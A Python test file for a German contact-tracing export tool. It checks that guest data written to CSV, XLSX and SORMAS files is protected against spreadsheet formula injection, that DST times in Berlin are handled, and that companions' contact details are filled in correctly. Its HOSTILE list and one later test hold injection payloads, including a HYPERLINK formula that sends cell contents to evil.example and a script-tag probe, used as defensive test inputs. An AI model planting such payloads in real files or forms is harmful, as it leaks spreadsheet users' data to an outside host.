"""Output that cannot hurt its reader: no formulas, no broken layout, names unchanged."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import zipfile
from unittest.mock import MagicMock

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from crypto.record import normalise_contact_record
from health_export import decryption
from health_export.decryption import (
    BERLIN,
    DecryptionResult,
    OpenedVisit,
    berlin_text,
    sormas_rows,
    visit_rows,
)
from health_export.export_layout import COLUMNS, SORMAS_FIELDS
from health_export.exports import (
    SEPARATORS,
    csv_cell,
    neutralise,
    result_to_json,
    rows_to_csv,
    rows_to_sormas,
    rows_to_xlsx,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+49 170 1234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'Semi;colon, "quoted"\nnext line',
    "O'Brien",
    "Müller-Lüdenscheidt",
    "李小龍",
    "👩‍⚕️ Dr. Emoji",
    "<script>alert(1)</script>",
]


def _row(text: str) -> list[str | int]:
    return [
        1,
        1,
        "Terrasse",
        "2026-11-20 10:00",
        "2026-11-20 12:00",
        "nein",
        1,
        "Gastseite",
        text,
        text,
        "",
        "",
        "",
        "",
        "",
        "",
        text,
        "nein",
    ]


def _read_csv(data: bytes, separator: str) -> list[list[str]]:
    text = data.decode("utf-8")
    return list(
        csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator)
    )


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_csv_neutralises_formulas_and_keeps_every_cell_whole(separator: str) -> None:
    data = rows_to_csv([_row(text) for text in HOSTILE], separator=separator)
    assert data.startswith("\ufeff".encode())
    parsed = _read_csv(data, separator)
    assert parsed[0] == list(COLUMNS)
    assert len(parsed) == 1 + len(HOSTILE)
    for text, row in zip(HOSTILE, parsed[1:], strict=True):
        assert len(row) == len(COLUMNS)
        assert row[8] == neutralise(text)
        assert not row[8].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert parsed[1 + HOSTILE.index("O'Brien")][8] == "O'Brien"
    assert parsed[1 + HOSTILE.index("李小龍")][8] == "李小龍"
    assert parsed[1 + HOSTILE.index("+49 170 1234567")][8] == "'+49 170 1234567"


def test_csv_quoting_follows_rfc_4180() -> None:
    assert csv_cell('a "b"', ",") == '"a ""b"""'
    assert csv_cell("a;b", ";") == '"a;b"'
    assert csv_cell("a;b", ",") == "a;b"
    assert csv_cell("line\nbreak", ",") == '"line\nbreak"'
    assert csv_cell(7, ",") == "7"
    assert rows_to_csv([], separator=";").endswith("Notiz;Verspätet übermittelt\r\n".encode())


def test_sormas_has_entity_and_field_rows_and_no_bom() -> None:
    row = [
        "=Ada",
        "Lovelace",
        "",
        "Weg",
        "1",
        "10115",
        "Berlin",
        "+49 1",
        "a@b.de",
        "Café, Terrasse: x - y",
    ]
    data = rows_to_sormas([row], separator=";")
    assert not data.startswith("\ufeff".encode())
    parsed = _read_csv(data, ";")
    assert parsed[0] == ["EventParticipant"] * len(SORMAS_FIELDS)
    assert parsed[1] == list(SORMAS_FIELDS)
    # A phone number as typed (SORMAS stores an apostrophe), a formula still neutralised.
    assert parsed[2][0] == "'=Ada" and parsed[2][7] == "+49 1"
    assert parsed[2][9] == "Café, Terrasse: x - y"


def test_xlsx_cells_are_strings_never_formulas() -> None:
    data = rows_to_xlsx([_row(text) for text in [*HOSTILE, "bell\x07char"]])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == list(COLUMNS)
    for text, row in zip(HOSTILE, values[1:], strict=False):
        # No apostrophe: a string cell is never evaluated. CR reads as LF in any XML.
        assert row[8] == text.replace("\r", "\n")
    assert values[-1][8] == "bell\ufffdchar"
    assert values[1][0] == 1  # numbers stay numbers


@settings(max_examples=50, deadline=None)
@given(
    st.lists(st.text(min_size=0, max_size=30), min_size=1, max_size=5),
    st.sampled_from([",", ";", "\t"]),
)
def test_any_guest_text_round_trips_through_csv(texts: list[str], separator: str) -> None:
    rows = [_row(text) for text in texts]
    parsed = _read_csv(rows_to_csv(rows, separator=separator), separator)
    assert [row[8] for row in parsed[1:]] == [neutralise(text) for text in texts]


_CELLS = st.one_of(
    st.integers(min_value=-(10**6), max_value=10**6),
    st.text(alphabet=st.sampled_from("ab ;,\t\"\r\n=+-@'ä"), max_size=6),
    st.sampled_from(HOSTILE),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(_CELLS, min_size=1, max_size=6), max_size=4), st.sampled_from(SEPARATORS))
def test_csv_lines_are_csv_cell_cell_by_cell(rows: list[list[str | int]], separator: str) -> None:
    """The fast path for rows that need no cell changed writes what csv_cell would."""
    expected = "".join(
        separator.join(csv_cell(value, separator) for value in row) + "\r\n" for row in rows
    )
    assert rows_to_csv(rows, separator=separator) == rows_to_csv([], separator=separator) + (
        expected.encode("utf-8")
    )


@pytest.mark.parametrize(
    "minute",
    [
        dt.datetime(2026, 3, 29, 0, 59, tzinfo=dt.UTC),  # the last minute before summer time
        dt.datetime(2026, 3, 29, 1, 0, tzinfo=dt.UTC),
        dt.datetime(2026, 10, 25, 0, 59, tzinfo=dt.UTC),  # the last minute of summer time
        dt.datetime(2026, 10, 25, 1, 0, tzinfo=dt.UTC),
        dt.datetime(1890, 6, 1, 12, 0, tzinfo=dt.UTC),  # local mean time, +0:53:28
        dt.datetime(1893, 3, 31, 23, 6, tzinfo=dt.UTC),  # LMT ends at 23:06:32 UTC
        dt.datetime(1960, 1, 1, 0, 0, tzinfo=dt.UTC),  # before 1970
    ],
)
def test_berlin_text_remembered_per_minute_is_the_text_of_every_second(
    minute: dt.datetime,
) -> None:
    """Berlin times are remembered per UTC minute; every second of a minute, in any
    order, still shows its own Berlin time, where offsets change and where they are
    not whole minutes."""
    seconds = [
        minute + dt.timedelta(seconds=s, microseconds=m)
        for s, m in ((40, 0), (0, 0), (59, 999_999), (31, 0), (32, 0), (5, 0))
    ]
    for order in (seconds, seconds[::-1]):
        decryption._berlin_minutes.clear()
        for moment in order:
            assert berlin_text(moment) == moment.astimezone(BERLIN).strftime("%Y-%m-%d %H:%M")
    assert berlin_text(dt.datetime(9999, 12, 31, 22, 59, tzinfo=dt.UTC)) == "9999-12-31 23:59"


# --- companions who share the guest's address and contact ------------------------------


def _family_visit() -> OpenedVisit:
    """A guest with two companions: one ticked "same address and contact", one did not."""
    record = normalise_contact_record(
        {
            "firstName": "Erika",
            "lastName": "Muster",
            "street": "Markt",
            "houseNumber": "1",
            "zipCode": "10115",
            "city": "Berlin",
            "phone": "+49 30 111",
            "email": "erika@example.de",
            "additionalPersons": [
                {"firstName": "Max", "lastName": "Muster", "sameAddress": True},
                {
                    "firstName": "Olga",
                    "lastName": "Eigen",
                    "sameAddress": False,
                    "city": "Köln",
                    "email": "olga@example.de",
                },
            ],
        }
    )
    moment = dt.datetime(2026, 11, 20, 18, 0, tzinfo=dt.UTC)
    return OpenedVisit(
        number=1,
        area_code="terrasse",
        area_name="Terrasse",
        arrival=moment,
        departure=moment + dt.timedelta(hours=2),
        departure_is_automatic=False,
        persons=3,
        source="guest_page",
        key_id="ab" * 32,
        record=record,
    )


def test_a_companion_with_the_same_address_gets_the_guests_phone_and_email() -> None:
    rows = visit_rows([_family_visit()])
    contact = [(row[13], row[14], row[15]) for row in rows]  # Ort, Telefon, E-Mail
    assert contact == [
        ("Berlin", "+49 30 111", "erika@example.de"),
        ("Berlin", "+49 30 111", "erika@example.de"),
        ("Köln", "", "olga@example.de"),  # own contact: nothing borrowed
    ]
    participants = sormas_rows([_family_visit()], "Wirtshaus")
    assert [(row[7], row[8]) for row in participants] == [
        ("+49 30 111", "erika@example.de"),
        ("+49 30 111", "erika@example.de"),
        ("", "olga@example.de"),
    ]
    sheet = load_workbook(io.BytesIO(rows_to_xlsx(rows))).active
    assert [row[14].value for row in sheet.iter_rows(min_row=2)] == ["+49 30 111"] * 2 + [None]


def test_the_json_export_lists_every_person_with_the_contact_to_use() -> None:
    package = MagicMock(sha256="00", request={"id": 1}, location={"name": "Wirtshaus"})
    result = DecryptionResult(visits=[_family_visit()], failures=[])
    document = json.loads(result_to_json(package, result))
    visit = document["visits"][0]
    assert visit["record"]["additionalPersons"][0] == {
        "firstName": "Max",
        "lastName": "Muster",
        "sameAddress": True,
    }  # the record as sealed
    assert [(p["firstName"], p["phone"], p["email"]) for p in visit["people"]] == [
        ("Erika", "+49 30 111", "erika@example.de"),
        ("Max", "+49 30 111", "erika@example.de"),
        ("Olga", "", "olga@example.de"),
    ]


def test_a_spreadsheet_hostile_name_passes_the_name_rule_and_is_guarded_in_every_file() -> None:
    """The name rule (registration/names.py) keeps what a person typed; the exports guard it."""
    from registration.names import clean_name  # the business side's rule, applied at input

    hostile = clean_name(' =HYPERLINK("http://evil.example","Klick") ', max_length=120)
    assert hostile == '=HYPERLINK("http://evil.example","Klick")'
    visit = dataclasses.replace(_family_visit(), area_name=hostile)
    rows = visit_rows([visit])
    for separator in (",", ";", "\t"):
        parsed = _read_csv(rows_to_csv(rows, separator=separator), separator)
        assert {row[COLUMNS.index("Bereich")] for row in parsed[1:]} == {"'" + hostile}
    sheet = load_workbook(io.BytesIO(rows_to_xlsx(rows))).active
    cells = [row[COLUMNS.index("Bereich")] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type) for cell in cells} == {(hostile, "s")}
    # In SORMAS the names stand in the involvement description, the location's first.
    sormas = _read_csv(rows_to_sormas(sormas_rows([visit], hostile)), ",")
    assert {row[-1][: len(hostile) + 1] for row in sormas[2:]} == {"'" + hostile}
